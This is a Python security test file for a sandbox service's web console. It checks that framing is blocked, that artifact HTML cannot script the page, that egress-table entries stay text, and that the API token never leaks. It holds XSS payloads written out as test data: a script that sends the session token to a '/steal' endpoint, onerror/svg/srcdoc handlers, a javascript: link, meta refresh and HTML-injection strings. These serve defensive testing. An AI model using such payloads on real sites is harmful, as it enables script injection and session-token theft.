# SPDX-License-Identifier: MIT
"""Attacks on the console (/ui), in headless Chromium (tests/node/console.mjs): a page of
another origin frames it (frame-ancestors 'none' must keep it out); an artifact's HTML tries
to run script in the console's origin, read the token and send it away (the sandboxed iframe
and the CSP must stop all of it); a request id and a host name carrying HTML reach the
Operate part's table of egress decisions (they must stay text); and the token must never
appear in a URL, a cookie, localStorage or sandboxd's log.

The browser and its driver live in tests/node, which the rootless pass of the attack suite
(tests/rootless.sh) does not copy: these attacks are on the HTTP front and the page, not on
the jail, and run in the root pass."""
import pathlib
import sys

import pytest

TESTS = pathlib.Path(__file__).resolve().parents[1]
sys.path.insert(0, str(TESTS))
import browser  # noqa: E402
from harness import Server, executor_request  # noqa: E402
from origins import Origin  # noqa: E402

TOKEN = "console-attack-token-9c2b7d"


@pytest.fixture(scope="module")
def srv():
    s = Server("--pool-size", "1", "--api-token", TOKEN)
    yield s
    s.stop()


@pytest.fixture
def evil():
    o = Origin("evil")
    yield o
    o.close()


def base(s):
    return "http://127.0.0.1:%d" % s.port


def test_another_origin_cannot_frame_the_console(srv, evil):
    evil.files["/frame.html"] = ("text/html", (
        '<!doctype html><title>evil</title><h1>click me</h1>'
        '<iframe src="%s/ui" width="800" height="600"></iframe>' % base(srv)).encode())
    r = browser.drive("frame", {"base": base(srv),
                                "attacker": "http://127.0.0.1:%d/frame.html" % evil.port})
    assert r["direct"], "the console does not load at all: the attack proves nothing"
    assert len(r["frames"]) == 1, r["frames"]
    assert not r["frames"][0]["hasConsole"], r["frames"]
    assert any("frame-ancestors" in m["text"] for m in r["seen"]["console"]), r["seen"]["console"]
    r = srv.request("GET", "/ui", fresh=True)
    assert "frame-ancestors 'none'" in r.header("Content-Security-Policy")
    assert r.header("X-Frame-Options") == "DENY"


EVIL_HTML = """
<p id="x">an innocent table</p>
<script>
  parent.window.pwned = "script"; top.document.title = "pwned";
  fetch("http://127.0.0.1:PORT/steal?t=" + encodeURIComponent(sessionStorage.getItem("sandboxd.token")));
  alert("xss");
</script>
<img src="x" onerror="parent.window.pwned='onerror'; top.document.body.dataset.pwned='1'">
<img src="http://127.0.0.1:PORT/img">
<svg onload="parent.window.pwned='svg'"></svg>
<iframe srcdoc="<script>top.window.pwned='nested'</script>"></iframe>
<form action="http://127.0.0.1:PORT/form" method="post"><input name="a" value="b"></form>
<a id="l" href="javascript:parent.window.pwned='href'">x</a>
<meta http-equiv="refresh" content="0;url=http://127.0.0.1:PORT/refresh">
<link rel="stylesheet" href="http://127.0.0.1:PORT/css">
"""


def test_artifact_html_cannot_script_the_console(srv, evil):
    html = EVIL_HTML.replace("PORT", str(evil.port))
    code = ("class Evil:\n"
            "    def _repr_html_(self):\n"
            "        return %r\n"
            "display(Evil())\n"
            "print('shown')\n" % html)
    r = browser.drive("artifact", {"base": base(srv), "token": TOKEN, "code": code})
    assert "shown" in r["run"], r["run"]
    assert r["sandbox"] == "", r["sandbox"]  # no allow-scripts, no allow-same-origin
    assert r["top"] == {"pwned": None, "title": "sandboxd console", "marker": None}, r["top"]
    assert not r["seen"]["dialogs"], r["seen"]["dialogs"]
    # Nothing reached another origin: no script ran, and the console's CSP (which an srcdoc
    # frame inherits) refuses images, styles, forms and frame navigations to other origins.
    assert evil.seen == [], "the artifact reached another origin: %r" % evil.seen
    assert not r["seen"]["pageErrors"], r["seen"]["pageErrors"]
    # The console still holds its token, in its own tab's storage only.
    assert r["storage"]["session"] == {"sandboxd.token": TOKEN}


# Markup in what a client and a sandbox choose: the request id (the execution's label in the
# egress log and table) and the host of a proxy request.
LABEL = '<img src="x" onerror="window.pwned=\'label\';document.body.dataset.pwned=1"><b>bold</b>'
HOST = '<img/src="x"/onerror="window.pwned=1">'  # no space: it stays one URL


def test_markup_in_egress_decisions_stays_text(evil):
    allowed = "api.test:%d" % evil.port
    s = Server("--pool-size", "1", "--api-token", TOKEN, "--egress-allow", allowed,
               "--egress-resolve", allowed + ":127.0.0.1")
    code = ("import socket, urllib.error, urllib.request\n"
            "try:\n    urllib.request.urlopen('http://evil.test:%d/', timeout=10)\n"
            "    a = 200\n"
            "except urllib.error.HTTPError as e:\n    a = e.code\n"
            "c = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n"
            "c.sendall(b'GET http://%s/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\n"
            "[a, c.recv(100).split(b' ')[1].decode()]\n" % (evil.port, HOST))

    def requests(msg):
        r = s.execute(executor_request(code, request_id=LABEL, network={"allow": [allowed]}),
                      headers={"Authorization": "Bearer " + TOKEN}, fresh=True)
        assert r.status == 200 and r.json["data"]["result"] == [403, "400"], r.json
        return True

    try:
        r = browser.drive("egress", {"base": base(s), "token": TOKEN,
                                     "expect": [LABEL, "evil.test:%d" % evil.port]},
                          {"requests": requests})
    finally:
        s.stop()
    rows = [x["cells"] for x in r["rows"]]
    # The texts are there, character for character, as text: no element was made of them.
    assert [x[1] for x in rows] == [LABEL, LABEL], rows
    # The host is refused before it is kept (a host name is letters, digits, '-', '_', '.').
    assert rows[0][2:4] == ["denied", "—"] and rows[0][4], rows
    assert rows[1][2:4] == ["denied", "evil.test:%d" % evil.port], rows
    assert set(r["elements"]) <= {"tr", "td", "code", "span"}, r["elements"]
    assert r["top"] == {"pwned": None, "title": "sandboxd console", "marker": None}, r["top"]
    assert not r["seen"]["dialogs"] and not r["seen"]["pageErrors"], r["seen"]
    assert not browser.console_errors(r["seen"]), r["seen"]["console"]  # no handler even tried
    assert not [q for q in r["seen"]["requests"] if q["url"].endswith("/x")], r["seen"]["requests"]
    assert evil.seen == []  # the denied request never left


def test_token_never_in_a_url_a_cookie_or_the_log(srv):
    r = browser.drive("flow", {"base": base(srv), "token": TOKEN,
                               "plotCode": "import matplotlib.pyplot as plt\n"
                                           "plt.plot([1, 2])\nplt.show()\n"})
    seen = r["seen"]
    api = [q for q in seen["requests"] if "/v1/" in q["url"] or q["url"].endswith("/metrics")]
    assert api and all(q["authorization"] for q in api), api  # it went, in the header
    assert not [q["url"] for q in seen["requests"] if TOKEN in q["url"]]
    assert TOKEN not in r["storage"]["url"] and r["storage"]["cookie"] == ""
    assert r["storage"]["local"] == {}
    assert not [m for m in seen["console"] if TOKEN in m["text"]]
    logs = srv.logs()
    assert "/v1/sessions" in logs or "session" in logs  # the log is the one of this work
    assert TOKEN not in logs
    # The UI's files were served without it, and carry no secret of the server.
    ui = [q for q in seen["requests"] if "/ui" in q["url"]]
    assert ui and not any(q["authorization"] for q in ui)
